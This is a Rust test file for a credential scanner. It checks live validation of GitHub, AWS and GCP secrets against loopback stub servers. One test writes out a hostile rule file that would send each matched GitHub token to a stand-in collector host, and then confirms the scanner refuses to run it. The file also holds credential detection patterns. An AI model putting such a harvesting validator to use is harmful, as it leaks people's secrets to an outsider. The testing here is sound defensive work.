//! Live validation against a loopback server that plays the provider.
//! Nothing here reaches beyond 127.0.0.1.

use std::net::TcpListener;
use std::sync::atomic::Ordering;
use std::sync::Arc;
use std::time::Duration;

use base64::Engine;
use serde_json::{json, Value};

use crate::common::{findings, Env, Fake};

pub(crate) use crate::stub::{Reply, Seen, Server};

/// A GitHub API stand-in: `live` is the one token it knows.
fn github(live: &str) -> Server {
    let want = format!("Bearer {live}");
    Server::start(move |req, _| {
        if req.target != "/user" {
            return Reply::new(404, r#"{"message":"Not Found"}"#);
        }
        if req.header("authorization") == Some(want.as_str()) {
            Reply::new(200, r#"{"login":"octocat","id":1}"#)
        } else {
            Reply::new(401, r#"{"message":"Bad credentials"}"#)
        }
    })
}

fn validation(f: &Value) -> (&str, &str) {
    (
        f["validation"]["status"].as_str().unwrap_or("<none>"),
        f["validation"]["detail"].as_str().unwrap_or("<none>"),
    )
}

fn by_secret<'a>(json: &'a Value, secret: &str) -> &'a Value {
    findings(json)
        .iter()
        .find(|f| f["secret"] == secret)
        .unwrap_or_else(|| panic!("no finding for {secret}: {json:#}"))
}

#[test]
fn live_and_invalid_tokens_through_the_bundled_github_validator() {
    let mut fake = Fake::new(51);
    let (live, dead) = (fake.github_pat(), fake.github_pat());
    let server = github(&live);
    let env = Env::new();
    env.write("ci.env", format!("TOKEN={live}\nOLD_TOKEN={dead}\n"));
    let endpoint = format!("github={}", server.url);
    let (code, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
        "--show-secrets",
    ]);
    assert_eq!(code, 1);
    assert_eq!(
        validation(by_secret(&json, &live)),
        ("live", "HTTP 200; identity octocat")
    );
    assert_eq!(
        validation(by_secret(&json, &dead)),
        ("invalid", "HTTP 401: Bad credentials")
    );
    let v = &json["summary"]["validation"];
    assert_eq!(
        (v["live"].as_u64(), v["invalid"].as_u64()),
        (Some(1), Some(1))
    );
    let reqs = server.requests();
    assert_eq!(reqs.len(), 2);
    assert!(reqs
        .iter()
        .all(|r| r.method == "GET" && r.target == "/user"));
    assert!(reqs
        .iter()
        .all(|r| r.header("accept") == Some("application/vnd.github+json")));
}

#[test]
fn without_validate_nothing_is_sent_and_no_status_is_reported() {
    let mut fake = Fake::new(52);
    let live = fake.github_pat();
    let server = github(&live);
    let env = Env::new();
    env.write("a.txt", format!("t={live}\n"));
    let endpoint = format!("github={}", server.url);
    let (code, json) = env.scan_json(&[".", "--allow-internal", "--endpoint", &endpoint]);
    assert_eq!(code, 1);
    assert!(findings(&json)[0].get("validation").is_none(), "{json:#}");
    assert!(json["summary"].get("validation").is_none());
    assert!(server.requests().is_empty());
}

#[test]
fn a_secret_seen_in_50_files_is_checked_once() {
    let mut fake = Fake::new(53);
    let (live, other) = (fake.github_pat(), fake.github_pat());
    let server = github(&live);
    let env = Env::new();
    for i in 0..50 {
        env.write(
            &format!("copies/f{i:02}.txt"),
            format!("GITHUB_TOKEN={live}\n"),
        );
    }
    env.write("other.txt", format!("GITHUB_TOKEN={other}\n"));
    let endpoint = format!("github={}", server.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    let all = findings(&json);
    assert_eq!(all.len(), 51);
    let live_count = all.iter().filter(|f| validation(f).0 == "live").count();
    assert_eq!(live_count, 50);
    assert_eq!(
        server.requests().len(),
        2,
        "one request per distinct secret"
    );
    assert_eq!(json["summary"]["validation"]["secrets_checked"], 2);
}

#[test]
fn rate_limit_is_retried_once_then_reported_unknown() {
    let mut fake = Fake::new(54);
    let token = fake.github_pat();
    // First answer 429, then 200: the retry proves the token live.
    let flaky = Server::start(|_, n| {
        if n == 0 {
            Reply::new(429, r#"{"message":"slow down"}"#)
        } else {
            Reply::new(200, r#"{"login":"octocat"}"#)
        }
    });
    let env = Env::new();
    env.write("a.txt", format!("t={token}\n"));
    let endpoint = format!("github={}", flaky.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(validation(&findings(&json)[0]).0, "live");
    assert_eq!(flaky.requests().len(), 2);

    // Always 429: unknown after exactly one retry, never invalid.
    let limited = Server::start(|_, _| Reply::new(429, "{}"));
    let endpoint = format!("github={}", limited.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(
        validation(&findings(&json)[0]),
        ("unknown", "rate limited (HTTP 429), also on retry")
    );
    assert_eq!(limited.requests().len(), 2);
}

#[test]
fn server_errors_are_unknown_never_invalid() {
    let mut fake = Fake::new(55);
    let token = fake.github_pat();
    let broken = Server::start(|_, _| Reply::new(503, "upstream down"));
    let env = Env::new();
    env.write("a.txt", format!("t={token}\n"));
    let endpoint = format!("github={}", broken.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(
        validation(&findings(&json)[0]),
        ("unknown", "server error (HTTP 503), also on retry")
    );
    assert_eq!(broken.requests().len(), 2);
}

#[test]
fn a_slow_provider_times_out_as_unknown() {
    let mut fake = Fake::new(56);
    let token = fake.github_pat();
    let slow = Server::start(|_, _| Reply {
        delay: Duration::from_secs(3),
        ..Reply::new(200, r#"{"login":"octocat"}"#)
    });
    let env = Env::new();
    env.write("a.txt", format!("t={token}\n"));
    let endpoint = format!("github={}", slow.url);
    let (_, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--validate-timeout",
        "300ms",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(
        validation(&findings(&json)[0]),
        ("unknown", "timeout after 300ms")
    );
    assert_eq!(slow.requests().len(), 1, "a timeout is not retried");
}

#[test]
fn an_unreachable_provider_is_unknown_never_invalid() {
    let port = {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut fake = Fake::new(57);
    let token = fake.github_pat();
    let env = Env::new();
    env.write("a.txt", format!("t={token}\n"));
    let endpoint = format!("github=http://127.0.0.1:{port}");
    let (code, json) = env.scan_json(&[
        ".",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(code, 1);
    let (status, detail) = validation(&findings(&json)[0]);
    assert_eq!(status, "unknown");
    assert!(
        detail.starts_with("cannot connect to 127.0.0.1"),
        "{detail}"
    );
    assert!(!detail.contains(&token));
}

#[test]
fn internal_addresses_are_refused_without_allow_internal() {
    let mut fake = Fake::new(58);
    let token = fake.github_pat();
    let server = github(&token);
    let env = Env::new();
    env.write("a.txt", format!("t={token}\n"));
    let port = server.addr.port();
    for (endpoint, expect) in [
        (
            format!("github=https://127.0.0.1:{port}"),
            "127.0.0.1, a loopback address (use --allow-internal",
        ),
        (
            format!("github=https://localhost:{port}"),
            "a loopback address (use --allow-internal",
        ),
        (
            format!("github={}", server.url),
            "refused to send the secret over plain http",
        ),
    ] {
        let (_, json) = env.scan_json(&[".", "--validate", "--endpoint", &endpoint]);
        let (status, detail) = validation(&findings(&json)[0]);
        assert_eq!(status, "unknown", "{endpoint}");
        assert!(detail.contains(expect), "{endpoint}: {detail}");
    }
    assert!(server.requests().is_empty(), "nothing reached the server");
}

const AWS_RULE: &str = r#"
rules:
  - id: test-aws-secret-key
    name: AWS secret access key
    keywords: [aws_secret_access_key]
    pattern: 'aws_secret_access_key\s*=\s*([A-Za-z0-9/+]{40})'
    companions:
      - name: key_id
        pattern: '\b((?:AKIA|ASIA)[A-Z2-7]{16})\b'
        within_lines: 3
    validate:
      kind: aws
"#;

fn hmac(key: &[u8], data: &str) -> Vec<u8> {
    use hmac::Mac;
    let mut m = hmac::Hmac::<sha2::Sha256>::new_from_slice(key).unwrap();
    m.update(data.as_bytes());
    m.finalize().into_bytes().to_vec()
}

fn hexs(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

/// Checks a SigV4 signature the way STS would, knowing the secret of each
/// key id. Returns the key id when the signature is right.
fn verify_sigv4(req: &Seen, secrets: &[(&str, &str)]) -> Result<String, &'static str> {
    use sha2::Digest;
    let auth = req.header("authorization").ok_or("IncompleteSignature")?;
    let rest = auth
        .strip_prefix("AWS4-HMAC-SHA256 Credential=")
        .ok_or("IncompleteSignature")?;
    let mut fields = rest.split(", ");
    let cred = fields.next().ok_or("IncompleteSignature")?;
    let signed = fields
        .next()
        .and_then(|s| s.strip_prefix("SignedHeaders="))
        .ok_or("IncompleteSignature")?;
    let sig = fields
        .next()
        .and_then(|s| s.strip_prefix("Signature="))
        .ok_or("IncompleteSignature")?;
    let c: Vec<&str> = cred.split('/').collect();
    if c.len() != 5 || c[2] != "us-east-1" || c[3] != "sts" || c[4] != "aws4_request" {
        return Err("IncompleteSignature");
    }
    if sig.len() != 64 || !sig.bytes().all(|b| b.is_ascii_hexdigit()) {
        return Err("IncompleteSignature");
    }
    let secret = secrets
        .iter()
        .find(|(id, _)| *id == c[0])
        .map(|(_, s)| *s)
        .ok_or("InvalidClientTokenId")?;
    let canonical_headers: String = signed
        .split(';')
        .map(|h| format!("{h}:{}\n", req.header(h).unwrap_or("")))
        .collect();
    let creq = format!(
        "{}\n/\n\n{canonical_headers}\n{signed}\n{}",
        req.method,
        hexs(&sha2::Sha256::digest(req.body.as_bytes()))
    );
    let date = req.header("x-amz-date").ok_or("IncompleteSignature")?;
    let scope = format!("{}/us-east-1/sts/aws4_request", c[1]);
    let sts = format!(
        "AWS4-HMAC-SHA256\n{date}\n{scope}\n{}",
        hexs(&sha2::Sha256::digest(creq.as_bytes()))
    );
    let k = hmac(format!("AWS4{secret}").as_bytes(), c[1]);
    let k = hmac(&k, "us-east-1");
    let k = hmac(&k, "sts");
    let k = hmac(&k, "aws4_request");
    if hexs(&hmac(&k, &sts)) == sig {
        Ok(c[0].to_string())
    } else {
        Err("SignatureDoesNotMatch")
    }
}

fn sts(known: Vec<(String, String)>) -> Server {
    Server::start(move |req, _| {
        if req.method != "POST" || req.body != "Action=GetCallerIdentity&Version=2011-06-15" {
            return Reply::new(
                400,
                "<ErrorResponse><Error><Code>InvalidAction</Code></Error></ErrorResponse>",
            );
        }
        let secrets: Vec<(&str, &str)> = known
            .iter()
            .map(|(a, b)| (a.as_str(), b.as_str()))
            .collect();
        match verify_sigv4(req, &secrets) {
            Ok(id) => Reply::new(
                200,
                format!(
                    "<GetCallerIdentityResponse><GetCallerIdentityResult><Arn>arn:aws:iam::123456789012:user/{id}</Arn>\
                     </GetCallerIdentityResult></GetCallerIdentityResponse>"
                ),
            ),
            Err(code) => Reply::new(
                403,
                format!("<ErrorResponse><Error><Type>Sender</Type><Code>{code}</Code><Message>no</Message></Error></ErrorResponse>"),
            ),
        }
    })
}

fn aws_key_id(fake: &mut Fake) -> String {
    format!(
        "AKIA{}",
        fake.string("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
    )
}

fn aws_secret(fake: &mut Fake) -> String {
    fake.string(
        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/+",
        40,
    )
}

#[test]
fn aws_secret_is_paired_with_its_key_id_and_sigv4_signed() {
    let mut fake = Fake::new(59);
    let (id, secret) = (aws_key_id(&mut fake), aws_secret(&mut fake));
    let (other_id, wrong_secret) = (aws_key_id(&mut fake), aws_secret(&mut fake));
    let (unknown_id, unknown_secret) = (aws_key_id(&mut fake), aws_secret(&mut fake));
    let lonely = aws_secret(&mut fake);
    let server = sts(vec![
        (id.clone(), secret.clone()),
        (other_id.clone(), secret.clone()),
    ]);
    let env = Env::new();
    env.write("aws.yml", AWS_RULE);
    env.write(
        "creds/live.ini",
        format!("[default]\naws_access_key_id = {id}\naws_secret_access_key = {secret}\n"),
    );
    env.write(
        "creds/mismatch.ini",
        format!("aws_access_key_id = {other_id}\naws_secret_access_key = {wrong_secret}\n"),
    );
    env.write(
        "creds/unknown.ini",
        format!("aws_access_key_id = {unknown_id}\naws_secret_access_key = {unknown_secret}\n"),
    );
    env.write(
        "creds/lonely.ini",
        format!("aws_secret_access_key = {lonely}\n"),
    );
    let endpoint = format!("aws={}", server.url);
    let (_, json) = env.scan_json(&[
        "creds",
        "--rules",
        "aws.yml",
        "--rule",
        "test-aws-secret-key",
        "--trust-rule-validators",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
        "--show-secrets",
    ]);
    assert_eq!(
        validation(by_secret(&json, &secret)),
        (
            "live",
            &*format!("HTTP 200; identity arn:aws:iam::123456789012:user/{id}")
        )
    );
    let (status, detail) = validation(by_secret(&json, &wrong_secret));
    assert_eq!(status, "invalid");
    assert!(detail.contains("SignatureDoesNotMatch"), "{detail}");
    let (status, detail) = validation(by_secret(&json, &unknown_secret));
    assert_eq!(status, "invalid");
    assert!(detail.contains("InvalidClientTokenId"), "{detail}");
    let (status, detail) = validation(by_secret(&json, &lonely));
    assert_eq!(status, "not-checked");
    assert!(detail.contains("key_id"), "{detail}");

    let reqs = server.requests();
    assert_eq!(reqs.len(), 3, "the secret without a key id is not sent");
    for r in &reqs {
        let auth = r.header("authorization").unwrap();
        assert!(
            auth.starts_with("AWS4-HMAC-SHA256 Credential=AKIA"),
            "{auth}"
        );
        assert!(auth.contains(
            "/us-east-1/sts/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature="
        ));
        for s in [&secret, &wrong_secret, &unknown_secret, &lonely] {
            assert!(
                !r.raw().contains(s.as_str()),
                "a secret key went over the wire"
            );
        }
    }
}

#[test]
fn validators_of_untrusted_rule_files_are_not_run() {
    let mut fake = Fake::new(60);
    let (id, secret) = (aws_key_id(&mut fake), aws_secret(&mut fake));
    let server = sts(vec![(id.clone(), secret.clone())]);
    let env = Env::new();
    env.write("aws.yml", AWS_RULE);
    env.write(
        "creds.ini",
        format!("aws_access_key_id = {id}\naws_secret_access_key = {secret}\n"),
    );
    let endpoint = format!("aws={}", server.url);
    let (_, json) = env.scan_json(&[
        "creds.ini",
        "--rules",
        "aws.yml",
        "--rule",
        "test-aws-secret-key",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    let (status, detail) = validation(&findings(&json)[0]);
    assert_eq!(status, "not-checked");
    assert!(detail.contains("--trust-rule-validators"), "{detail}");
    assert!(server.requests().is_empty());

    // A rule file whose validator names its own server is never contacted either.
    let evil = Server::start(|_, _| Reply::new(200, "{}"));
    env.write(
        "evil.yml",
        r#"
rules:
  - id: harvest-github
    name: Harvest
    keywords: [ghp_]
    pattern: '\b(ghp_[A-Za-z0-9]{36})\b'
    validate:
      url: https://collector.example/{{secret}}
      live: {status: [200]}
      invalid: {status: [401]}
"#,
    );
    env.write("t.txt", format!("x={}\n", fake.github_pat()));
    let endpoint = format!("evil={}", evil.url);
    let (_, json) = env.scan_json(&[
        "t.txt",
        "--rules",
        "evil.yml",
        "--rule",
        "harvest-github",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    assert_eq!(validation(&findings(&json)[0]).0, "not-checked");
    assert!(evil.requests().is_empty());
}

const GCP_RULE: &str = r#"
rules:
  - id: test-gcp-service-account-key
    name: GCP service account key
    keywords: [service_account]
    pattern: '"private_key"\s*:\s*"(-----BEGIN PRIVATE KEY-----\\n[A-Za-z0-9+/=\\]{200,4000}-----END PRIVATE KEY-----(?:\\n)?)"'
    max_len: 4096
    companions:
      - name: client_email
        pattern: '"client_email"\s*:\s*"([a-z0-9-]+@[a-z0-9-]+\.iam\.gserviceaccount\.com)"'
        within_lines: 12
    validate:
      kind: gcp
"#;

fn b64url_decode(s: &str) -> Vec<u8> {
    base64::engine::general_purpose::URL_SAFE_NO_PAD
        .decode(s)
        .unwrap()
}

#[test]
fn gcp_service_account_key_is_exchanged_for_a_token() {
    let pem = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("testdata/validate/gcp-test-service-account.pem"),
    )
    .unwrap();
    let der: Vec<u8> = {
        let body: String = pem.lines().filter(|l| !l.starts_with("-----")).collect();
        base64::engine::general_purpose::STANDARD
            .decode(body)
            .unwrap()
    };
    let public = ring::signature::RsaKeyPair::from_pkcs8(&der)
        .unwrap()
        .public()
        .as_ref()
        .to_vec();
    let live_email = "deployer@ledger-4821.iam.gserviceaccount.com";
    let server = Server::start(move |req, _| {
        let form: std::collections::HashMap<String, String> =
            url::form_urlencoded::parse(req.body.as_bytes())
                .into_owned()
                .collect();
        if req.target != "/token"
            || form.get("grant_type").map(String::as_str)
                != Some("urn:ietf:params:oauth:grant-type:jwt-bearer")
        {
            return Reply::new(400, r#"{"error":"unsupported_grant_type"}"#);
        }
        let jwt = &form["assertion"];
        let pieces: Vec<&str> = jwt.split('.').collect();
        let header: Value = serde_json::from_slice(&b64url_decode(pieces[0])).unwrap();
        let claims: Value = serde_json::from_slice(&b64url_decode(pieces[1])).unwrap();
        let signed = format!("{}.{}", pieces[0], pieces[1]);
        let ok = ring::signature::UnparsedPublicKey::new(
            &ring::signature::RSA_PKCS1_2048_8192_SHA256,
            &public,
        )
        .verify(signed.as_bytes(), &b64url_decode(pieces[2]))
        .is_ok();
        assert_eq!(header["alg"], "RS256");
        assert_eq!(claims["aud"], "https://oauth2.googleapis.com/token");
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs();
        assert!(claims["exp"].as_u64().unwrap() > now);
        if !ok {
            return Reply::new(
                400,
                r#"{"error":"invalid_grant","error_description":"Invalid JWT Signature."}"#,
            );
        }
        if claims["iss"] != live_email {
            return Reply::new(
                400,
                r#"{"error":"invalid_grant","error_description":"Invalid grant: account not found"}"#,
            );
        }
        Reply::new(
            200,
            r#"{"access_token":"ya29.test","expires_in":3599,"token_type":"Bearer"}"#,
        )
    });
    let escaped = pem.trim_end().replace('\n', "\\n") + "\\n";
    let key_file = |email: &str| {
        json!({
            "type": "service_account",
            "project_id": "ledger-4821",
            "private_key_id": "9f2c6e1ab47d03e58c1f6a2b7d49e0c3a5b8f1d2",
            "private_key": "@KEY@",
            "client_email": email,
        })
        .to_string()
        .replace(",\"", ",\n\"")
        .replace("@KEY@", &escaped)
    };
    let env = Env::new();
    env.write("gcp.yml", GCP_RULE);
    env.write("keys/live.json", key_file(live_email));
    env.write(
        "keys/gone.json",
        key_file("old@ledger-4821.iam.gserviceaccount.com"),
    );
    let endpoint = format!("gcp={}", server.url);
    let (_, json) = env.scan_json(&[
        "keys",
        "--rules",
        "gcp.yml",
        "--rule",
        "test-gcp-service-account-key",
        "--show-secrets",
        "--trust-rule-validators",
        "--validate",
        "--allow-internal",
        "--endpoint",
        &endpoint,
    ]);
    let found = findings(&json);
    assert_eq!(found.len(), 2, "{json:#}");
    let get = |path: &str| {
        found
            .iter()
            .find(|f| f["path"].as_str().unwrap().ends_with(path))
            .unwrap()
    };
    assert_eq!(
        validation(get("live.json")),
        ("live", &*format!("HTTP 200; identity {live_email}"))
    );
    let (status, detail) = validation(get("gone.json"));
    assert_eq!(status, "invalid");
    assert!(detail.contains("account not found"), "{detail}");
    assert_eq!(server.requests().len(), 2);
}

#[test]
fn only_live_and_fail_on_live() {
    let mut fake = Fake::new(61);
    let (live, dead) = (fake.github_pat(), fake.github_pat());
    let server = github(&live);
    let env = Env::new();
    env.write("both.txt", format!("a={live}\nb={dead}\n"));
    env.write("dead/only.txt", format!("b={dead}\n"));
    let endpoint = format!("github={}", server.url);
    let base = [
        "--validate",
        "--allow-internal",
        "--endpoint",
        endpoint.as_str(),
        "--show-secrets",
    ];

    let (code, json) = env.scan_json(&[&["both.txt", "--only-live"], &base[..]].concat());
    assert_eq!(code, 1);
    assert_eq!(findings(&json).len(), 1);
    assert_eq!(findings(&json)[0]["secret"], live.as_str());
    assert_eq!(json["summary"]["findings"], 1);

    let (code, _) = env.scan_json(&[&["both.txt", "--fail-on", "live"], &base[..]].concat());
    assert_eq!(code, 1);
    let (code, json) = env.scan_json(&[&["dead", "--fail-on", "live"], &base[..]].concat());
    assert_eq!(
        code, 0,
        "an invalid secret alone does not fail --fail-on live"
    );
    assert_eq!(findings(&json).len(), 1);
    let (code, _) = env.scan_json(&[&["dead"], &base[..]].concat());
    assert_eq!(code, 1, "--fail-on any is the default");

    let out = env
        .cmd()
        .args(["scan", "dead", "--fail-on", "live"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--fail-on live needs --validate"));
    let out = env
        .cmd()
        .args(["scan", "dead", "--only-live"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn validation_shows_in_human_jsonl_and_sarif() {
    let mut fake = Fake::new(62);
    let live = fake.github_pat();
    let server = github(&live);
    let env = Env::new();
    env.write("a.txt", format!("t={live}\n"));
    let endpoint = format!("github={}", server.url);
    let run = |format: &str| {
        let out = env
            .cmd()
            .args([
                "scan",
                ".",
                "-q",
                "--validate",
                "--allow-internal",
                "--endpoint",
                &endpoint,
                "-f",
                format,
            ])
            .output()
            .unwrap();
        String::from_utf8(out.stdout).unwrap()
    };
    let human = run("human");
    assert!(
        human.contains("  validation   live: HTTP 200; identity octocat\n"),
        "{human}"
    );
    assert!(
        human.contains("validation: 1 live, 0 invalid, 0 unknown, 0 not checked"),
        "{human}"
    );
    assert!(!human.contains(&live), "secrets stay redacted");

    let line: Value = serde_json::from_str(run("jsonl").lines().next().unwrap()).unwrap();
    assert_eq!(
        line["validation"],
        json!({"status": "live", "detail": "HTTP 200; identity octocat"})
    );

    let sarif: Value = serde_json::from_str(&run("sarif")).unwrap();
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("testdata/sarif-schema-2.1.0.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let errors: Vec<String> = jsonschema::validator_for(&schema)
        .unwrap()
        .iter_errors(&sarif)
        .map(|e| format!("{e} at {}", e.instance_path))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let result = &sarif["runs"][0]["results"][0];
    assert_eq!(result["properties"]["validation"]["status"], "live");
    assert!(result["message"]["text"]
        .as_str()
        .unwrap()
        .contains("(live)"));
}

#[test]
fn validate_command_checks_one_secret() {
    let mut fake = Fake::new(63);
    let (live, dead) = (fake.github_pat(), fake.github_pat());
    let server = github(&live);
    let env = Env::new();
    let endpoint = format!("github={}", server.url);
    let run = |secret: &str, stdin: Option<String>, extra: &[&str]| {
        let mut cmd = env.cmd();
        cmd.args([
            "validate",
            "--rule",
            "github-pat-classic",
            secret,
            "--allow-internal",
            "--endpoint",
            &endpoint,
        ]);
        cmd.args(extra);
        if let Some(s) = stdin {
            cmd.write_stdin(s);
        }
        let out = cmd.output().unwrap();
        (
            out.status.code().unwrap(),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let (code, out, _) = run(&live, None, &[]);
    assert_eq!(
        (code, out.as_str()),
        (1, "live: HTTP 200; identity octocat\n")
    );
    let (code, out, _) = run("-", Some(format!("{dead}\n")), &[]);
    assert_eq!(
        (code, out.as_str()),
        (0, "invalid: HTTP 401: Bad credentials\n")
    );
    let (code, out, _) = run(&live, None, &["-f", "json"]);
    assert_eq!(code, 1);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(v["rule_id"], "github-pat-classic");
    assert_eq!(v["validation"]["status"], "live");

    let out = env
        .cmd()
        .args(["validate", "--rule", "no-such-rule", "x"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let out = env
        .cmd()
        .args([
            "validate",
            "--rule",
            "github-pat-classic",
            &live,
            "--endpoint",
            "nosuch=https://x.test",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no loaded rule has provider \"nosuch\""));
}

#[test]
fn validate_command_takes_parts() {
    let mut fake = Fake::new(64);
    let (id, secret) = (aws_key_id(&mut fake), aws_secret(&mut fake));
    let server = sts(vec![(id.clone(), secret.clone())]);
    let env = Env::new();
    env.write("aws.yml", AWS_RULE);
    let endpoint = format!("aws={}", server.url);
    let run = |parts: &[&str]| {
        env.cmd()
            .args([
                "validate",
                "--rules",
                "aws.yml",
                "--trust-rule-validators",
                "--rule",
                "test-aws-secret-key",
            ])
            .arg(&secret)
            .args(["--allow-internal", "--endpoint", &endpoint])
            .args(parts)
            .output()
            .unwrap()
    };
    let out = run(&["--part", &format!("key_id={id}")]);
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).starts_with("live: HTTP 200; identity arn:aws:iam::")
    );
    let out = run(&[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stdout).starts_with("not-checked: needs the key_id"));
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn validate_concurrency_bounds_requests_in_flight() {
    use std::sync::atomic::AtomicUsize;
    let mut fake = Fake::new(65);
    let env = Env::new();
    for i in 0..4 {
        env.write(&format!("t{i}.txt"), format!("t={}\n", fake.github_pat()));
    }
    let max_in_flight = |concurrency: &str| {
        let now = Arc::new(AtomicUsize::new(0));
        let max = Arc::new(AtomicUsize::new(0));
        let (n, m) = (now.clone(), max.clone());
        let server = Server::start(move |_, _| {
            let cur = n.fetch_add(1, Ordering::SeqCst) + 1;
            m.fetch_max(cur, Ordering::SeqCst);
            std::thread::sleep(Duration::from_millis(500));
            n.fetch_sub(1, Ordering::SeqCst);
            Reply::new(401, "{}")
        });
        let endpoint = format!("github={}", server.url);
        let (_, json) = env.scan_json(&[
            ".",
            "--validate",
            "--allow-internal",
            "--endpoint",
            &endpoint,
            "--validate-concurrency",
            concurrency,
        ]);
        assert!(findings(&json).iter().all(|f| validation(f).0 == "invalid"));
        assert_eq!(server.requests().len(), 4);
        max.load(Ordering::SeqCst)
    };
    assert_eq!(max_in_flight("1"), 1);
    assert!(max_in_flight("4") > 1);

    let out = env
        .cmd()
        .args(["scan", ".", "--validate", "--validate-concurrency", "0"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at least 1"));
}

#[test]
fn config_endpoints_apply_and_the_flag_overrides_them() {
    let mut fake = Fake::new(59);
    let live = fake.github_pat();
    let server = github(&live);
    let env = Env::new();
    env.write("ci.env", format!("TOKEN={live}\n"));
    env.write(
        "keysweep.toml",
        format!("[endpoints]\ngithub = \"{}\"\n", server.url),
    );
    // Found in the scanned tree, it may not redirect secrets...
    let out = env
        .cmd()
        .args(["scan", ".", "--validate", "--allow-internal"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("keysweep.toml: [endpoints]") && err.contains("--config"),
        "{err}"
    );
    assert!(server.requests().is_empty());
    // ...chosen with --config, it does.
    let (_, json) = env.scan_json(&[
        ".",
        "--config",
        "keysweep.toml",
        "--validate",
        "--allow-internal",
        "--show-secrets",
    ]);
    assert_eq!(validation(by_secret(&json, &live)).0, "live", "{json}");
    assert_eq!(server.requests().len(), 1);

    // --endpoint wins over the config: this one points at a closed port.
    let (_, json) = env.scan_json(&[
        ".",
        "--config",
        "keysweep.toml",
        "--validate",
        "--allow-internal",
        "--validate-timeout",
        "2s",
        "--endpoint",
        "github=http://127.0.0.1:9",
        "--show-secrets",
    ]);
    assert_eq!(validation(by_secret(&json, &live)).0, "unknown", "{json}");
    assert_eq!(server.requests().len(), 1);
}
